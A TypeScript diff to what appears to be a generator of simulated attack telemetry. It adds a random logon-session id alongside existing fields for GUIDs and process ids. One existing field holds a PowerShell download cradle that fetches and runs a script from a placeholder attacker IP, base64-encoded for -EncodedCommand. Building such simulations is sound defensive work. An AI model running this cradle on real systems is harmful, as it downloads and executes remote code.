@@ -184,6 +184,8 @@ export function instanceVars(actor: Actor, server: Server | null, attackerIp: st
       [`guid.${n}`, `${hex(rng, 8)}-${hex(rng, 4)}-${hex(rng, 4)}-${hex(rng, 4)}-${hex(rng, 12)}`],
       [`pid.${n}`, String(4 * (500 + rng.int(3500)))],
     ])),
+    // A logon session the attack opens on a host (its logon id in every record of it).
+    'logon.1': String(1_000_000 + rng.int(899_000_000)),
     name: `${stem}-${hex(rng, 6)}`,
     // The download cradle a macro hands to PowerShell, as -EncodedCommand takes it (UTF-16LE, base64).
     'attacker.ps_enc': Buffer.from(`IEX (New-Object Net.WebClient).DownloadString('http://${attackerIp}/a')`, 'utf16le').toString('base64'),
